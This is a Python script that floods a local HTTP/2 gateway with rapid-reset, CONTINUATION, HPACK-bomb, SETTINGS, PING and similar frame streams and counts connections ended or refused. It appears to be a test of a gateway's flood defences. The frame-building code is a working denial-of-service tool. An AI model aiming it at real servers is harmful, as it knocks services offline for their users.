"""Floods of HTTP/2 frames at a gateway, on connections that are opened again as soon as they are ended, from an address of its own.

    flood.py NAME PORT SECONDS CONNECTIONS    ends with the number of connections, how many of them were ended, and how many more were
                                              not let in, in a line
"""

import itertools
import random
import socket
import ssl
import struct
import sys
import threading
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
BATCH = 500  # frames in a write
WAIT = 10  # seconds that a write may be held back before the connection is given up


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes((kind, flags)) + struct.pack("!I", stream) + payload


def literal(name, value):
    return bytes((0, len(name))) + name + bytes((len(value),)) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
REQUEST = literal(b":method", b"GET") + literal(b":scheme", b"https") + literal(b":path", b"/x") + literal(b":authority", b"a")
# An entry of the table with a value of 100 octets, and then 2,000 times that entry by one octet each.
BOMB = REQUEST + b"\x40\x01y\x64" + b"x" * 100 + b"\xbe" * 2000


def streams(of_stream):
    """Batches of what each new stream begins with; a connection has 2^30 of them."""
    ids = itertools.count(1, 2)
    while True:
        yield b"".join(of_stream(stream) for stream in itertools.islice(ids, BATCH))


def again(before, what):
    if before:
        yield before
    yield from itertools.repeat(what * BATCH)


FLOODS = {
    "rapid reset": lambda: streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST) + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))),
    "made to reset": lambda: streams(lambda stream: frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")),
    "CONTINUATION": lambda: again(frame(HEADERS, END_STREAM, 1, REQUEST), frame(CONTINUATION, 0, 1)),
    "large CONTINUATION": lambda: again(frame(HEADERS, END_STREAM, 1, REQUEST), frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * 10)),
    "HPACK bomb": lambda: streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, BOMB)),
    "SETTINGS": lambda: again(b"", frame(SETTINGS, 0, 0)),
    "PING": lambda: again(b"", frame(PING, 0, 0, bytes(8))),
    "PRIORITY": lambda: again(b"", frame(PRIORITY, 0, 1, b"\0\0\0\0\1")),
    "empty DATA": lambda: again(frame(HEADERS, END_HEADERS, 1, REQUEST), frame(DATA, 0, 1)),
}


class Flooder(threading.Thread):
    """One connection after the other. It reads nothing, so that answers pile up, too."""

    def __init__(self, name, source, port, end):
        super().__init__()
        self.flood, self.source, self.port, self.end = FLOODS[name], source, port, end
        self.connections = self.ended = self.refused = 0
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2"])

    def run(self):
        while time.monotonic() < self.end or self.connections + self.refused == 0:
            try:
                patience = max(1, self.end - time.monotonic())
                plain = socket.create_connection(("127.0.0.1", self.port), timeout=patience, source_address=(self.source, 0))
                secure = self.context.wrap_socket(plain)
                secure.settimeout(WAIT)
            except OSError:
                self.refused += 1
                continue
            self.connections += 1
            with secure:
                self.send(secure)

    def send(self, secure):
        try:
            secure.sendall(PREFACE)
            for batch in self.flood():
                secure.sendall(batch)
                if time.monotonic() > self.end + WAIT:
                    break
        except TimeoutError:
            pass  # it is not read any more: held back, but not ended
        except OSError:
            self.ended += 1


def main():
    name, port, seconds, count = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    source = f"127.{random.randint(1, 254)}.{random.randint(1, 254)}.{random.randint(1, 254)}"
    flooders = [Flooder(name, source, port, time.monotonic() + seconds) for _ in range(count)]
    for each in flooders:
        each.start()
    for each in flooders:
        each.join()
    print(*(sum(getattr(each, what) for each in flooders) for what in ("connections", "ended", "refused")))


if __name__ == "__main__":
    main()
